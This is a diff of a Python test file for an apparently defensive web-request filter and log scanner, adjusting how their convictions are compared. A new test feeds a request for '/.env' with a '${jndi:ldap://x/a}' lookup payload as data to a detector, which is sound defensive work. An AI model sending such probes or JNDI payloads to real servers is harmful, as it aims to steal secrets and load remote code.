@@ -200,7 +200,10 @@ def scanner() -> Scanner:
 @settings(max_examples=150, deadline=None)
 @given(target=PIECES, agent=PIECES, referrer=PIECES, method=st.one_of(st.just(b"GET"), OCTETS))
 def test_whatever_comes_the_log_would_say_the_same(door, scanner, target, agent, referrer, method):
-    """No octets make it fail; what it convicts, the scan convicts by the very line that is the evidence."""
+    """No octets make it fail; what it convicts, the scan convicts by the very line that is the evidence.
+
+    Where several checks convict a line, the two may name different ones: the scan stops at the first that is certain.
+    """
     request_ = Request(method, target, b"www.example.org", agent, referrer)
     offence = door.offence_of("192.0.2.7", request_, NOW)
     if offence is None:
@@ -208,4 +211,15 @@ def test_whatever_comes_the_log_would_say_the_same(door, scanner, target, agent,
     assert not is_harmless(door, "192.0.2.7", request_)
     origin = Origin(source="evidence", log=VHOST_COMBINED)
     seen = scanner.scan(offence.evidence + b"\n", origin, datetime.fromtimestamp(NOW, UTC)).offences
-    assert offence.check in {other.check for other, _ in seen}
+    assert [(other.network, other.kind) for other, _ in seen] == [(offence.network, offence.kind)]
+
+
+def test_where_several_checks_convict_door_and_log_both_do(door, scanner):
+    """Found by chance: the door names the lookup, the scan the file."""
+    offence = door.offence_of("192.0.2.7", asked(b"/.env", b"${jndi:ldap://x/a}"), NOW)
+    assert offence is not None
+    seen = scanner.scan(
+        offence.evidence + b"\n", Origin(source="evidence", log=VHOST_COMBINED), datetime.fromtimestamp(NOW, UTC)
+    ).offences
+    assert {other.check for other, _ in seen} <= {"visit.secret-file", "visit.jndi-lookup"}
+    assert seen
